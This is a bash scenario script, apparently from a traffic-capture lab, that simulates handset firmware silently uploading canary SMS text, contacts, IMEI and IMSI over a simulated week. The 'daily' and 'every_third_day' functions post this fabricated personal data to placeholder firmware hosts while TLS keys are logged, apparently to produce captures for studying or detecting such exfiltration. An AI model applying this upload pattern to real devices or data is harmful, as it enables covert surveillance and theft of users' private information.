# shellcheck shell=bash disable=SC2154
# The script of the scenario; Scripts/make-captures says what the commands mean. The twin, which
# only asks and downloads, runs it too, with its own `daily` and `every_third_day`.
start_dhcp 192.0.2.53 '[2001:db8:1::53]'
dhcp=$!
sleep 1

# What lies in the uploads, for the day when the keys are used: nothing of it is anybody's.
# Random text behind it, because a real one would hold more than a test does.
personal_data() { # OCTETS KIND
  python3 -c 'import json, random, sys
count, kind = int(sys.argv[1]), sys.argv[2]
filler, rows = random.Random(kind), []
rows.append({"sms": "telltale-canary-sms-1: the parcel lies with the neighbour"})
rows.append({"contact": "Telltale Canary Contact One", "number": "+10005550101"})
while len(json.dumps(rows)) < count:
    rows.append({"app": "com.fiction.app%d" % filler.randrange(10**6), "used": filler.randrange(9**9)})
sys.stdout.write(json.dumps({"imei": sys.argv[3], "imsi": sys.argv[4], kind: rows}))' \
    "$1" "$2" "$imei" "$imsi" >"$lab/body.json"
}

if ! declare -F daily >/dev/null; then
  daily() { # DAY
    local agent="Firmware/5.2 (Handset; Lab)"
    personal_data 24000 "usage-$1"
    fetch network https://bigdata.fotaservice.example/api/upload -4 --http1.1 \
      -H 'Content-Type: application/json' --data-binary @"$lab/body.json"
  }
  every_third_day() { # DAY
    local agent="Firmware/5.2 (Handset; Lab)"
    personal_data 60000 "messages-$1"
    fetch network https://rebootv5.fotapush.example/api/upload -6 --http1.1 \
      -H 'Content-Type: application/json' --data-binary @"$lab/body.json"
  }
fi

record 01-idle
begin_at 2026-11-14T02:00:00Z
for day in 0 1 2 3 4 5 6; do
  [[ $day -eq 0 ]] || leave_wifi
  at $((86400 * day))
  join_wifi
  system_traffic network
  at $((86400 * day + 600))
  export SSLKEYLOGFILE="$lab/keys.txt"
  step "firmware service, day $day"
  daily "$day"
  [[ $((day % 3)) -ne 0 ]] || every_third_day "$day"
  unset SSLKEYLOGFILE
done
stop_shifted_recording
mv "$lab/keys.txt" "$work/keys.txt"
unset -f daily every_third_day
kill "$dhcp"
